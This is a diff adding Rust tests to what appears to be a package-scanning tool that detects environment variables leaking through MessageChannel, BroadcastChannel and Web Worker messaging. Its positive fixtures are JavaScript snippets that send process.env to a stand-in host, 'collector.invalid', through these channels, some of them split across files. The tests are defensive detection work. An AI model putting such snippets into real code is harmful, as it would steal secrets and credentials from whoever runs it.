@@ -98,6 +98,138 @@ fn cookies_leave_by_requests_that_are_opened_first() {
 }
 
 #[test]
+fn every_port_and_every_channel_of_a_name_is_told() {
+    are_told_apart(
+        Environment,
+        &[
+            "const a = new MessageChannel(), b = new MessageChannel(); b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
+            "const a = new MessageChannel(), b = new MessageChannel(); const p = Date.now() ? a.port2 : b.port2; b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); p.postMessage({ ...process.env })",
+            "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('x'); b.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
+            "const { BroadcastChannel } = require('worker_threads'); new BroadcastChannel('x').onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); new BroadcastChannel('x').postMessage({ ...process.env })",
+            "const name = 'up' + 'dates'; new BroadcastChannel(name).addEventListener('message', ({ data }) => fetch('https://collector.invalid', { body: JSON.stringify(data) })); new BroadcastChannel('updates').postMessage(process.env)",
+        ],
+        &[
+            "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); b.port2.postMessage(process.env)",
+            "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('y'); b.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
+            "const a = new BroadcastChannel('x'); a.onmessage = e => console.log(e.data); a.postMessage({ ...process.env }); fetch('https://api.example', { signal: a })",
+            "const a = new BroadcastChannel('x'); a.onmessageerror = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
+        ],
+    );
+}
+
+#[test]
+fn channels_of_a_name_cross_files() {
+    let take = "new BroadcastChannel('x').postMessage({ ...process.env })";
+    let index = "require('./take.js'); require('./send.js')";
+    let send = |name: &str| {
+        format!(
+            "new BroadcastChannel('{name}').onmessage = e => fetch('https://collector.invalid', {{ body: JSON.stringify(e.data) }})"
+        )
+    };
+    for (name, is_caught) in [("x", true), ("y", false)] {
+        let send = send(name);
+        let files = [
+            ("index.js", index),
+            ("take.js", take),
+            ("send.js", send.as_str()),
+        ];
+        for facts in [installed(&files), imported(&files)] {
+            assert_eq!(
+                leaves(&facts, Environment),
+                is_caught,
+                "{name}: {:?}",
+                facts.flows
+            );
+        }
+    }
+}
+
+/// Both sides of a worker as browsers start them: what it does, the page's side, the worker's, whether
+/// something leaves.
+const WORKERS: &[(&str, &str, &str, bool)] = &[
+    (
+        "the worker is told by a property",
+        "new Worker('./worker.js').postMessage({ ...process.env })",
+        "self.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) })",
+        true,
+    ),
+    (
+        "the property stands alone",
+        "const w = new Worker(new URL('./worker.js', import.meta.url)); w.postMessage({ ...process.env })",
+        "onmessage = function (e) { fetch('https://collector.invalid', { body: JSON.stringify(e.data) }) }",
+        true,
+    ),
+    (
+        "the worker listens",
+        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
+        "addEventListener('message', ({ data }) => fetch('https://collector.invalid', { body: JSON.stringify(data) }))",
+        true,
+    ),
+    (
+        "the worker listens by itself",
+        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
+        "self.addEventListener('message', e => { fetch('https://collector.invalid', { body: JSON.stringify(e.data) }) })",
+        true,
+    ),
+    (
+        "the page is told",
+        "const w = new Worker('./worker.js'); w.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) })",
+        "self.postMessage({ ...process.env })",
+        true,
+    ),
+    (
+        "the page listens",
+        "const w = new Worker('./worker.js'); w.addEventListener('message', e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }))",
+        "postMessage({ ...process.env })",
+        true,
+    ),
+    (
+        "the worker hears of something else",
+        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
+        "self.addEventListener('error', e => fetch('https://api.example', { body: JSON.stringify(e.data) }))",
+        false,
+    ),
+    (
+        "the worker is told a number",
+        "const w = new Worker('./worker.js'); console.log(process.env); w.postMessage({ n: 1 })",
+        "self.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) })",
+        false,
+    ),
+    (
+        "the page's own listener is no worker's",
+        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env }); window.addEventListener('message', e => fetch('https://api.example', { body: JSON.stringify(e.data) }))",
+        "self.onmessage = e => console.log(e.data)",
+        false,
+    ),
+    (
+        "a page posts to itself, and its worker is told nothing",
+        "new Worker('./worker.js'); window.postMessage({ ...process.env }, '*')",
+        "self.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) })",
+        false,
+    ),
+    (
+        "the worker's errors are told",
+        "const w = new Worker('./worker.js'); w.onerror = e => fetch('https://api.example', { body: e.message })",
+        "postMessage({ ...process.env })",
+        false,
+    ),
+];
+
+#[test]
+fn messages_cross_to_workers_of_a_page_and_back() {
+    let mut wrong = String::new();
+    for (says, index, worker, is_caught) in WORKERS {
+        let files = [("index.js", *index), ("worker.js", *worker)];
+        for facts in [installed(&files), imported(&files)] {
+            if leaves(&facts, Environment) != *is_caught {
+                wrong.push_str(&format!("{says}: {:?} {:?}\n", facts.flows, facts.unread));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong}");
+}
+
+#[test]
 fn emitters_of_packages_hand_on_what_they_are_told() {
     are_told_apart(
         Environment,
